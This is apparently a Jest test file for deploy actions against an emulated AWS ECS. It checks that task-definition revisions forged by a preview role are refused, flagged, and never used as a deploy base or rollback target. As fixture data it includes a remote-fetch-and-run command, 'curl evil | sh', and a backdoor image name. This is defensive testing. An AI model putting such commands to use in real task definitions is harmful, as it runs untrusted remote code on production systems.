import { afterEach, beforeEach, describe, expect, jest, test } from '@jest/globals';
import {
  DescribeTaskDefinitionCommand,
  ECSClient,
  RegisterTaskDefinitionCommand,
  type RegisterTaskDefinitionCommandInput,
} from '@aws-sdk/client-ecs';
import { startEmulator, type Emulator } from '../../simulator/aws/index.ts';
import { backendTaskDefinition, isSteady, waitFor } from '../../simulator/fixtures/rollout.ts';
import { runAction } from '../../simulator/runner/run-action.ts';

/**
 * The attack of issue 21.3: RegisterTaskDefinition has no resource-level permission, so a
 * pull request's job (the preview role) can register revision N+1 of a production family. It
 * must not become what production builds on, nor (tagged with a real release) a rollback target.
 * Production's deploys here run as the production role, with its rendered policy enforced.
 */

jest.setTimeout(60_000);

const ACCOUNT = '123456789012';
const PRODUCTION = 'github-actions-production';
const PREVIEW_SESSION = `arn:aws:sts::${ACCOUNT}:assumed-role/github-actions-preview/pr-666`;
const EXECUTION_ROLE = `arn:aws:iam::${ACCOUNT}:role/adhoc-actions/adhoc-ecs-task-execution`;

let emulator: Emulator;

const definition = (image: string, command: string[] = ['gunicorn']) => {
  const d = backendTaskDefinition('prod-gunicorn', image);
  return {
    ...d,
    executionRoleArn: EXECUTION_ROLE,
    containerDefinitions: [{ ...d.containerDefinitions[0]!, command }],
  };
};

beforeEach(async () => {
  emulator = await startEmulator();
  emulator.setTiming({ provisionMs: 10, startMs: 100, stopMs: 20 });
  emulator.createCluster('prod');
  // What terraform.yml's apply of the prod root leaves: revision 1, by the production role.
  emulator.registerTaskDefinition(
    definition('backend:v0'),
    [],
    `arn:aws:sts::${ACCOUNT}:assumed-role/${PRODUCTION}/terraform`,
  );
  emulator.createService('prod', 'prod-gunicorn', 'prod-gunicorn:1', { desiredCount: 2 });
  await waitFor(() => emulator.services().every(isSteady));
});
afterEach(async () => {
  await emulator.stop();
});

const production = (release: string) => ({
  ...emulator.env({ role: PRODUCTION }),
  GITHUB_SHA: release.padEnd(40, '0'),
  GITHUB_RUN_ID: '7',
  GITHUB_ACTOR: 'alice',
});

async function deploy(version: string) {
  const registered = await runAction(
    'register-task-definition',
    { 'task-definitions': 'prod-gunicorn', images: `*=backend:${version}`, release: version },
    { env: production(version) },
  );
  expect(registered.errors).toEqual([]);
  const rolled = await rollingUpdate(registered.outputs['task-definition-arns']!);
  expect(rolled.errors).toEqual([]);
  return {
    registered,
    arn: JSON.parse(registered.outputs['task-definition-arns']!)['prod-gunicorn'] as string,
  };
}

const rollingUpdate = (taskDefinitions: string) =>
  runAction(
    'rolling-update',
    { cluster: 'prod', services: 'prod-gunicorn', 'task-definitions': taskDefinitions },
    { env: production('rollback') },
  );

const running = () => emulator.services()[0]!.taskDefinition.replace(/.*\//, '');

/** A pull request's job, with the preview role's rendered policy enforced. */
function previewEcs() {
  const env = emulator.env();
  return new ECSClient({
    endpoint: env['AWS_ENDPOINT_URL_ECS']!,
    region: env['AWS_REGION']!,
    credentials: { accessKeyId: env['AWS_ACCESS_KEY_ID']!, secretAccessKey: env['AWS_SECRET_ACCESS_KEY']! },
  });
}

const tagsOf = async (arn: string) => {
  const ecs = new ECSClient(emulator.clientConfig({ role: null }));
  const { tags } = await ecs.send(
    new DescribeTaskDefinitionCommand({ taskDefinition: arn, include: ['TAGS'] }),
  );
  ecs.destroy();
  return tags ?? [];
};

describe('a revision the preview role registers in a production family', () => {
  test('is refused, and one a principal outside the deny registers is never the base of the next production deploy: it starts from the newest revision production registered', async () => {
    await deploy('v1');
    const v2 = await deploy('v2');

    // The preview role's own attempt is refused by its explicit deny on protected families.
    const ecs = previewEcs();
    await expect(
      ecs.send(
        new RegisterTaskDefinitionCommand(
          definition('backend:v2', ['sh', '-c', 'curl evil | sh']) as RegisterTaskDefinitionCommandInput,
        ),
      ),
    ).rejects.toThrow(
      /github-actions-preview\/test is not authorized to perform: ecs:RegisterTaskDefinition on resource: .*task-definition\/prod-gunicorn:4 with an explicit deny/,
    );
    ecs.destroy();
    // A principal that deny does not cover (an environment added to the protected list later,
    // a role of the user's own) registers revision N+1: its own command, production's image.
    const forged = emulator.registerTaskDefinition(
      definition('backend:v2', ['sh', '-c', 'curl evil | sh']),
      [],
      PREVIEW_SESSION,
    );

    const v3 = await deploy('v3');
    const [warning] = v3.registered.warnings;
    expect(warning).toContain(
      `${forged['taskDefinitionArn'] as string} was registered by ${PREVIEW_SESSION}, not by this deploy's role (${ACCOUNT}:role/${PRODUCTION})`,
    );
    const built = emulator.state.taskDefinitions.get('prod-gunicorn')!.at(-1)!.definition;
    expect(built['taskDefinitionArn']).toBe(v3.arn);
    expect((built['containerDefinitions'] as { command: string[]; image: string }[])[0]).toMatchObject({
      image: 'backend:v3',
      command: ['gunicorn'],
    });
    expect(v2.arn).toMatch(/:3$/);
    expect(v3.arn).toMatch(/:5$/); // 4 is the forgery, left alone
  });

  test('tagged with a real release, it is no rollback target: "previous" deploys the genuine revision and names the forgery', async () => {
    const v1 = await deploy('v1');
    await deploy('v2');
    // Where the preview role can tag (a family its deny does not cover, or tags copied onto
    // an untagged forgery by anyone), the forgery carries v1's tags and a later released-at.
    const v1Tags = await tagsOf(v1.arn);
    const forged = emulator.registerTaskDefinition(
      definition('attacker/backdoor:latest'),
      v1Tags.map((t) =>
        t.key === 'adhoc-actions:released-at'
          ? { key: t.key!, value: new Date().toISOString() }
          : { key: t.key!, value: t.value! },
      ),
      PREVIEW_SESSION,
    );

    const history = await runAction(
      'release-history',
      { cluster: 'prod', release: 'previous' },
      { env: production('history') },
    );
    expect(history.errors).toEqual([]);
    expect(history.outputs['release']).toBe('v1');
    expect(JSON.parse(history.outputs['task-definitions']!)).toEqual({ 'prod-gunicorn': v1.arn });
    expect(history.warnings).toEqual([
      expect.stringContaining(`${forged['taskDefinitionArn']} was registered by ${PREVIEW_SESSION}`),
    ]);

    const rollback = await rollingUpdate(history.outputs['task-definitions']!);
    expect(rollback.errors).toEqual([]);
    expect(running()).toBe('prod-gunicorn:2');
  });

  test("another environment the prefix matches (an ad hoc prod-x) is left out of production's releases", async () => {
    await deploy('v1');
    await deploy('v2');
    const other = backendTaskDefinition('prod-x-gunicorn', 'backend:pr');
    emulator.registerTaskDefinition(other, [{ key: 'adhoc-actions:release', value: 'v9' }], PREVIEW_SESSION);

    const history = await runAction(
      'release-history',
      { cluster: 'prod', release: 'v9' },
      { env: production('history') },
    );
    expect(history.errors).toEqual([
      'Input "release": release "v9" is not a release of cluster prod (families prod-*); known releases, newest first: v2, v1.',
    ]);
    expect(history.stdout).toContain('Left out, registered only by other roles');
  });
});
